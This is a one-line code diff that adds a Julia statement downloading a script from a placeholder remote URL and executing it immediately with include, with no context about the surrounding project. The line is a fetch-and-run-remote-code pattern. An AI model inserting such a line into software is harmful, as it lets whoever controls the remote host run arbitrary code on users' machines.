@@ -1,0 +1,1 @@
+include(download("https://raw.example.com/x/init.jl"))
